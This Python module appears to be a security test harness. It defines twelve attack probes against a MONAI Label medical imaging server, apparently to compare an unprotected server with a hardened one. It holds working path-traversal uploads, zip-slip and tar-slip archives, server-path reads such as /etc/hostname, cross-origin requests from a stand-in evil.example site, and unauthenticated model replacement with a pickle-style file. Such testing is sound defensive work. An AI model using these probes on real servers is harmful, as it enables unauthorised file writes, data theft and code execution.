"""Attacks on a MONAI Label server, each written once, to be tried on an unprotected server and on ours.

An attack returns whether it succeeded: a file written outside, a file read that is nobody's business, a page
of another site let in. It changes nothing but what it proves itself with.
"""

import io
import json
import tarfile
import uuid
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import requests

TIMEOUT_S = 120
EVIL_SITE = "https://evil.example"
SECRET = b"not an image of this server"


@dataclass(frozen=True)
class Target:
    """A server that is attacked.

    Attributes:
        address: of the server.
        studies: its folder; attacks write beside it, where they can.
        image: id of an image there.
        model: that can be asked for.
        trainer: that can be asked for; empty: none.
    """

    address: str
    studies: Path
    image: str
    model: str
    trainer: str = ""

    def call(self, method: str, path: str, **arguments) -> requests.Response:
        return requests.request(method, f"{self.address}{path}", timeout=TIMEOUT_S, **arguments)


def image_written_outside(target: Target) -> bool:
    name = f"evil-{uuid.uuid4().hex}"
    files = {"file": ("x.nii.gz", SECRET)}
    target.call("PUT", "/datastore/", params={"image": f"../{name}"}, files=files)
    return _appeared(target.studies.parent, name)


def label_written_outside(target: Target) -> bool:
    before = set(target.studies.parent.glob(f"{target.image}*"))
    files = {"label": (f"{target.image}.nii.gz", SECRET)}
    query = {"image": target.image, "tag": "../.."}
    target.call("PUT", "/datastore/label", params=query, files=files)
    new = set(target.studies.parent.glob(f"{target.image}*")) - before
    for path in new:
        path.unlink()
    return bool(new)


def zip_slip(target: Target) -> bool:
    name = f"evil-{uuid.uuid4().hex}"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(f"../../{name}", SECRET)
        archive.writestr(f"{target.studies.parent}/{name}", SECRET)
    return _unpacked_outside(target, "scan.zip", buffer.getvalue(), name)


def tar_slip(target: Target) -> bool:
    name = f"evil-{uuid.uuid4().hex}"
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        member = tarfile.TarInfo(f"{target.studies.parent}/{name}")
        member.size = len(SECRET)
        archive.addfile(member, io.BytesIO(SECRET))
    return _unpacked_outside(target, "scan.tar", buffer.getvalue(), name)


def server_path_as_image(target: Target) -> bool:
    """Reads a scan that lies beside the studies; whether the model accepts it says that it was opened."""
    outside = _scan_outside(target)
    try:
        reply = target.call(
            "POST",
            f"/infer/{target.model}",
            params={"image": str(outside), "output": "json"},
            data={"params": json.dumps({"foreground": [[1, 1, 1]]})},
        )
    finally:
        outside.unlink()
    return reply.status_code == 200


def server_path_as_params_image(target: Target) -> bool:
    outside = _scan_outside(target)
    try:
        reply = target.call(
            "POST",
            f"/infer/{target.model}",
            params={"image": "nobody", "output": "json"},
            data={"params": json.dumps({"image": str(outside), "foreground": [[1, 1, 1]]})},
        )
    finally:
        outside.unlink()
    return reply.status_code == 200


def server_path_as_training_data(target: Target) -> bool:
    """Whether a job takes a path of the server for its data; it is stopped at once."""
    path = f"/train/{target.trainer or 'any'}"
    reply = target.call("POST", path, json={"train_ds": "/etc/hostname", "val_ds": "/etc/hostname"})
    if reply.status_code == 200:
        target.call("DELETE", "/train/")
    return reply.status_code == 200


def foreign_page_reads(target: Target) -> bool:
    reply = target.call("GET", "/info/", headers={"Origin": EVIL_SITE, "Cookie": "a=b"})
    allowed = reply.headers.get("access-control-allow-origin")
    return allowed in {EVIL_SITE, "*"} and reply.headers.get("access-control-allow-credentials") == "true"


def foreign_page_writes(target: Target) -> bool:
    """A form that any page can make a browser send, as no preflight comes before it."""
    reply = target.call(
        "POST", "/activelearning/random", headers={"Origin": EVIL_SITE, "Content-Type": "text/plain"}
    )
    return reply.status_code == 200


def anybody_reloads(target: Target) -> bool:
    return target.call("POST", "/reload").status_code == 200


def anybody_replaces_a_model(target: Target) -> bool:
    """A model file that would run code when it is loaded is taken in."""
    files = {"file": ("model.pt", b"\x80\x04K\x01.")}
    return target.call("PUT", f"/model/{target.model}", files=files).status_code == 200


def anybody_reads_the_log(target: Target) -> bool:
    return target.call("GET", "/logs/").status_code == 200


ATTACKS: dict[str, Callable[[Target], bool]] = {
    attack.__name__: attack
    for attack in (
        image_written_outside,
        label_written_outside,
        zip_slip,
        tar_slip,
        server_path_as_image,
        server_path_as_params_image,
        server_path_as_training_data,
        foreign_page_reads,
        foreign_page_writes,
        anybody_reloads,
        anybody_replaces_a_model,
        anybody_reads_the_log,
    )
}


def _scan_outside(target: Target) -> Path:
    source = next(target.studies.glob(f"{target.image}.nii*"))
    outside = target.studies.parent / f"other-patient-{uuid.uuid4().hex}.nii.gz"
    outside.write_bytes(source.read_bytes())
    return outside


def _unpacked_outside(target: Target, archive: str, content: bytes, name: str) -> bool:
    target.call("PUT", "/session/", params={"uncompress": "true"}, files={"files": (archive, content)})
    return _appeared(target.studies.parent, name)


def _appeared(folder: Path, name: str) -> bool:
    found = list(folder.glob(f"{name}*"))
    for path in found:
        path.unlink()
    return bool(found)
